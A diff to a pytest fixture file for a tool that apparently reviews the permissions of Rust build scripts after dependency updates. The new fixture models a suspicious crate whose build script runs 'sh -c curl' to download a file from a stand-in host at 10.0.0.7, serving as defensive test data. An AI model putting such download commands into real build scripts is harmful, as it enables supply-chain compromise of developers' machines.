@@ -6,22 +6,25 @@ import hashlib
 import html
 import re
 from pathlib import Path
+from types import MappingProxyType
 from typing import TYPE_CHECKING
 
 import pytest
 
 from buildperm.policy import editor, manifest
 from buildperm.policy.access import Access, Kind, Outcome
+from buildperm.policy.comparison import Comparison, SourceChange
 from buildperm.policy.decision import Answer, Entry
-from buildperm.policy.proposal import Choice, Proposal, Risk
+from buildperm.policy.proposal import Choice, Proposal, Risk, Standing
 from buildperm.policy.review import Review
 from buildperm.policy.rule import Rule
+from buildperm.policy.snapshot import Seen
 from buildperm.tui.app import ReviewApp
 from buildperm.tui.widgets.crates import CrateTree
 from buildperm.tui.widgets.sheet import Sheet
 
 if TYPE_CHECKING:
-    from collections.abc import Callable, Iterable, Sequence
+    from collections.abc import Callable, Iterable, Mapping, Sequence
 
     from textual.pilot import Pilot
 
@@ -57,12 +60,22 @@ def proposal(
     evidence: Sequence[Access],
     *ladder: Choice,
     locked: str = "",
+    standing: Standing = Standing.ASKED,
 ) -> Proposal:
     """Make a proposal; without a ladder the accesses themselves are the only rung."""
     exact = Choice("exactly this", tuple(Rule(each.kind, each.target) for each in evidence))
     digest = hashlib.sha256(f"{crate} {title}".encode()).hexdigest()[:12]
     return Proposal(
-        digest, crate, version, title, ladder or (exact,), risk, (reason,), tuple(evidence), locked
+        digest,
+        crate,
+        version,
+        title,
+        ladder or (exact,),
+        risk,
+        (reason,),
+        tuple(evidence),
+        locked,
+        standing,
     )
 
 
@@ -162,6 +175,121 @@ def realistic() -> list[Proposal]:
     ]  # fmt: skip
 
 
+SUMMARY = "4 of 212 build scripts need you: 5 decisions about 7 accesses."
+
+BEFORE = b"""\
+use std::env;
+
+fn main() {
+    println!("cargo::rerun-if-changed=build.rs");
+    let version = probe(&env::var("RUSTC").unwrap());
+    if version >= 77 {
+        println!("cargo::rustc-cfg=has_c_str");
+    }
+}
+"""
+AFTER = b"""\
+use std::env;
+use std::process::Command;
+
+fn main() {
+    println!("cargo::rerun-if-changed=build.rs");
+    let version = probe(&env::var("RUSTC").unwrap());
+    if version >= 80 {
+        println!("cargo::rustc-cfg=has_c_str");
+    }
+    let told = Command::new("git").args(["describe", "--tags", "--always", "--dirty"]).output();
+    println!("cargo::rustc-env=ARRAYREF_DESCRIBED={:?}", told.map(|out| out.stdout).ok());
+}
+"""
+
+
+def updated() -> tuple[list[Proposal], dict[tuple[str, str], Comparison]]:
+    """Return what a review after an update shows: every standing, and how scripts differ."""
+    git = [access(Kind.EXEC, "git", chain=("git",), example="git describe --tags --always --dirty")]
+    runs = ("run git", Risk.MEDIUM, "git reads whatever its settings say.", git)
+    proto = [access(Kind.READ, f"$WORKSPACE/proto/{name}.proto") for name in ("pay", "user")]
+    beside = wider(
+        Kind.READ,
+        "$WORKSPACE/proto/**",
+        "everything that `read $WORKSPACE/proto/**` covers",
+        "It is granted already, and allows more than what was seen.",
+    )
+    dropper = [
+        access(
+            Kind.EXEC,
+            "curl",
+            outcome=Outcome.REFUSED,
+            chain=("sh", "curl"),
+            example="curl -s https://10.0.0.7/x -o x",
+        ),
+        access(Kind.EXEC, "sh", chain=("sh",), example="sh -c curl -s https://10.0.0.7/x -o x"),
+    ]
+    proposals = [
+        proposal("arrayref-helper", "0.1.3", "run curl, sh", Risk.HIGH,
+                 "It talks to the network.", dropper),
+        proposal("atomic-shim", "1.0.0", "is new, and stays within the baseline", Risk.LOW,
+                 "It got into the graph by app → tokio → atomic-shim.", [],
+                 Choice("nothing beyond the baseline", ()), locked="There is nothing to decide.",
+                 standing=Standing.NEWCOMER),
+        proposal("arrayref", "0.3.10", *runs),
+        proposal("prost-build", "0.14.2", "new, but already allowed by `$WORKSPACE/proto/**`: read "
+                 "2 files below $WORKSPACE/proto", Risk.LOW, "It is part of your workspace.",
+                 proto, beside, standing=Standing.COVERED),
+        proposal("prost-build", "0.14.2", *runs),
+        proposal("shadow-rs", "1.5.0", *runs),
+        proposal("shadow-rs", "1.5.0", "see the environment variable CI_JOB", Risk.LOW,
+                 "An ordinary variable, read only.", [access(Kind.ENV, "CI_JOB")]),
+        proposal("shadow-rs", "1.5.0", "made no use of exec `perl`", Risk.HIGH,
+                 "`perl`: it runs whatever text it is given.", [],
+                 exactly(Kind.EXEC, "perl", title="exec perl"), standing=Standing.UNUSED),
+        proposal("gone-sys", "", "is not in Cargo.lock any more", Risk.MEDIUM,
+                 "`ld`: linkers are large programs.", [],
+                 exactly(Kind.EXEC, "ld", title="its whole table"), standing=Standing.UNUSED),
+    ]  # fmt: skip
+    done = [Seen(Kind.EXEC, "git", Outcome.DONE)]
+    protos = [Seen(Kind.READ, each.target, Outcome.DONE) for each in proto]
+    perl = Seen(Kind.EXEC, "perl", Outcome.DONE)
+    pay = Seen(Kind.READ, "$WORKSPACE/proto/old.proto", Outcome.DONE)
+    bad = [Seen(each.kind, each.target, each.outcome) for each in dropper]
+    compared = [
+        Comparison(
+            "arrayref-helper", "0.1.3", "", ("app", "blake3", "arrayref", "arrayref-helper"),
+            ("no build script of it was ever reviewed",), tuple(bad), (), (),
+            (SourceChange("build.rs", None, b'fn main() {\n    fetch("https://10.0.0.7/x");\n}\n'),),
+        ),
+        Comparison(
+            "atomic-shim", "1.0.0", "", ("app", "tokio", "atomic-shim"),
+            ("no build script of it was ever reviewed",), (), (), (),
+            (SourceChange("build.rs", None, b"fn main() {}\n"),),
+        ),
+        Comparison(
+            "arrayref", "0.3.10", "0.3.9", ("app", "blake3", "arrayref"),
+            ("was 0.3.9", "cc 1.0.83 -> 1.2.1"), tuple(done), (), (),
+            (SourceChange("build.rs", BEFORE, AFTER),),
+        ),
+        Comparison(
+            "prost-build", "0.14.2", "0.14.1", ("app", "prost-build"), ("was 0.14.1",),
+            (*done, *protos), (), (pay,), (),
+            "those of 0.14.1 are not on this machine any more",
+        ),
+        Comparison(
+            "shadow-rs", "1.5.0", "1.5.0", ("app", "shadow-rs"), ("features: + tokio, - default",),
+            (*done, Seen(Kind.ENV, "CI_JOB", Outcome.DONE)), (perl,), (pay,),
+        ),
+    ]  # fmt: skip
+    return proposals, {(each.crate, each.version): each for each in compared}
+
+
+@pytest.fixture
+def after_update() -> Bench:
+    """Make an application over a review after an update."""
+    proposals, comparisons = updated()
+    return Bench(
+        proposals, comparisons=comparisons, heading="review  shop", summary=SUMMARY, scripts=212
+    )
+
+
 @pytest.fixture
 def proposals() -> list[Proposal]:
     """Make the proposals of the realistic workspace."""
@@ -195,6 +323,9 @@ class Bench:
         scripts: int = 23,
         journal: Callable[[Entry], None] | None = None,
         verify: Verify | None = None,
+        comparisons: Mapping[tuple[str, str], Comparison] = MappingProxyType({}),
+        heading: str = "learn",
+        summary: str = "",
     ) -> None:
         self.review = Review(proposals)
         self.entries: list[Entry] = []
@@ -207,7 +338,9 @@ class Bench:
             preview=self.preview,
             verify=verify or self.verify,
             journal=journal or self.entries.append,
-            heading="learn",
+            comparisons=comparisons,
+            heading=heading,
+            summary=summary,
             scripts=scripts,
             clock=self.clock,
         )
